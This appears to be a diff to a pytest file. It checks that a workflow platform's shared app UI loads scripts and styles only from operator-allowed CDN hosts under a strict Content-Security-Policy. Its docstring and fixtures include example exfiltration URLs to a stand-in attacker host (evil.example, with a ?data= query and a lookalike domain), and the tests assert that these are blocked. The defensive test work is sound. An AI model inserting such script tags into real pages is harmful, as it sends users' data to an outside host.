@@ -4,12 +4,15 @@ same-origin resources, and an app's UI document is served only into a frame of t
 
 from __future__ import annotations
 
+import logging
 import time
+import uuid
+from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.api.conftest import Api
+from tests.api.conftest import Api, make_api
 from tests.conftest import package
 
 FRAMED = {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"}
@@ -96,8 +99,13 @@ def test_only_plain_https_cdn_urls_reach_the_ui_document_and_its_policy(
     cluster_api.services.redis.hset(f"{worker.prefix}:workers", "w-test", str(time.time() * 1000))
     owner = cluster_api.user("owner")
     pkg = ui_package()
-    good = "https://cdn.example.org/lib.js"
-    bad = [f"{good}\n", "https://cdn.example.org:\u0661\u0662/x.js", 'https://a.org/"x', " " + good]
+    good = "https://cdn.jsdelivr.net/npm/lib.js"
+    bad = [
+        f"{good}\n",
+        "https://cdn.jsdelivr.net:\u0661\u0662/x.js",
+        'https://a.org/"x',
+        " " + good,
+    ]
     pkg["apps"]["adder"]["cdn"] = {"js": [good, *bad], "css": bad}
     made = cluster_api.call("POST", "/runs", owner, json={"package": pkg})
     assert made.status_code in (200, 201, 202), made.json
@@ -107,7 +115,90 @@ def test_only_plain_https_cdn_urls_reach_the_ui_document_and_its_policy(
     assert answer.data.count(b"<script src=") == 1 and good.encode() in answer.data
     assert b"<link rel" not in answer.data
     policy = answer.headers["Content-Security-Policy"]
-    assert good in policy and "cdn.example.org:" not in policy and "a.org" not in policy
+    assert directives(policy)["script-src"] == ["'unsafe-inline'", "https://cdn.jsdelivr.net"]
+    assert "a.org" not in policy and "cdn.jsdelivr.net:" not in policy
+
+
+def ui_with_cdn(api: Api, cdn: dict[str, list[str]]) -> Any:
+    """The UI document (as the console's frame asks for it) of a run of an app with `cdn`."""
+    api.services.redis.hset(f"{api.services.settings.worker.prefix}:workers", "w", str(time.time() * 1000))  # fmt: skip
+    owner = api.user("owner")
+    pkg = ui_package()
+    pkg["apps"]["adder"]["cdn"] = cdn
+    made = api.call("POST", "/runs", owner, json={"package": pkg})
+    assert made.status_code in (200, 201, 202), made.json
+    answer = api.http.get(f"/runs/{made.json['run_id']}/flows/f/ui", headers={**owner, **FRAMED})
+    assert answer.status_code == 200, answer.data[:300]
+    return answer
+
+
+def directives(policy: str) -> dict[str, list[str]]:
+    parts = [d.split() for d in policy.split(";") if d.strip()]
+    return {d[0]: d[1:] for d in parts}
+
+
+def test_a_ui_loads_only_from_the_hosts_the_operator_allows(cluster_api: Api) -> None:
+    """A probe had a shared workflow's UI send the viewer's run results to its author's host
+    (`<script src="https://evil.example/x.js?data=...">`): the policy allowed any https host
+    the app listed, and CSP matches no query. Only hosts of DIZEST_UI_CDN_HOSTS (by default
+    three public CDNs) are loaded and named; the others are left out with a note."""
+    kept = ["https://cdn.jsdelivr.net/npm/a@1/a.js", "https://UNPKG.com/b@2/b.css"]
+    evil = ["https://evil.example/x.js?data=1", "https://cdn.jsdelivr.net.evil.example/y.css"]
+    answer = ui_with_cdn(cluster_api, {"js": [kept[0], evil[0]], "css": [kept[1], evil[1]]})
+    body = answer.get_data(as_text=True)
+    assert '<script src="https://cdn.jsdelivr.net/npm/a@1/a.js">' in body
+    assert '<link rel="stylesheet" href="https://UNPKG.com/b@2/b.css">' in body
+    assert "evil.example" not in body.split('id="dizest-cdn-note"')[0]  # nothing loads it
+    note = body.split('id="dizest-cdn-note"')[1].split("</div>")[0]
+    assert "https://evil.example/x.js?data=1</code>: evil.example is not among" in note
+    assert "https://cdn.jsdelivr.net.evil.example/y.css" in note
+    policy = answer.headers["Content-Security-Policy"]
+    found = directives(policy)
+    assert found["script-src"] == ["'unsafe-inline'", "https://cdn.jsdelivr.net"]
+    assert found["style-src"] == ["'unsafe-inline'", "https://unpkg.com"]
+    both = ["https://cdn.jsdelivr.net", "https://unpkg.com"]
+    assert found["img-src"] == ["data:", "blob:", *both] and found["font-src"] == ["data:", *both]
+    assert found["connect-src"] == found["form-action"] == found["worker-src"] == ["'none'"]
+    assert "evil" not in policy and "https:" not in policy.replace("https://", "")
+    assert "*" not in policy
+
+
+def test_the_allowed_hosts_are_the_operators_own(
+    redis_url: str, session_prefix: str, tmp_path: Path
+) -> None:
+    hosts = ("*.assets.example.org", "cdn.example.net:8443")
+    api = make_api(redis_url, session_prefix, tmp_path, None, {"ui_cdn_hosts": hosts})
+    urls = [
+        "https://a.assets.example.org/x.js",  # under the wildcard
+        "https://assets.example.org/x.js",  # the wildcard's own name: not under it
+        "https://cdn.example.net:8443/x.js",  # its port
+        "https://cdn.example.net/x.js",  # another port (443)
+        "https://cdn.jsdelivr.net/x.js",  # a default the operator replaced
+    ]
+    answer = ui_with_cdn(api, {"js": urls, "css": []})
+    policy = directives(answer.headers["Content-Security-Policy"])
+    assert policy["script-src"][1:] == [
+        "https://a.assets.example.org",
+        "https://cdn.example.net:8443",
+    ]
+    assert answer.get_data(as_text=True).count("is not among the hosts") == 3
+    none = make_api(redis_url, session_prefix, tmp_path, None, {"ui_cdn_hosts": ()})
+    answer = ui_with_cdn(none, {"js": urls[-1:], "css": []})
+    assert directives(answer.headers["Content-Security-Policy"])["script-src"] == [
+        "'unsafe-inline'"
+    ]
+    assert b"<script src=" not in answer.data and b"dizest-cdn-note" in answer.data
+
+
+def test_a_refused_host_is_logged_once_without_its_query(
+    cluster_api: Api, caplog: pytest.LogCaptureFixture
+) -> None:
+    url = f"https://logged-{uuid.uuid4().hex[:8]}.example/x.js"
+    with caplog.at_level(logging.INFO, logger="dizest.api.appui"):
+        for _ in range(2):
+            ui_with_cdn(cluster_api, {"js": [f"{url}?key=s3cret"], "css": []})
+    lines = [r.getMessage() for r in caplog.records if url in r.getMessage()]
+    assert len(lines) == 1 and "s3cret" not in lines[0] and "DIZEST_UI_CDN_HOSTS" in lines[0]
 
 
 @pytest.mark.parametrize(
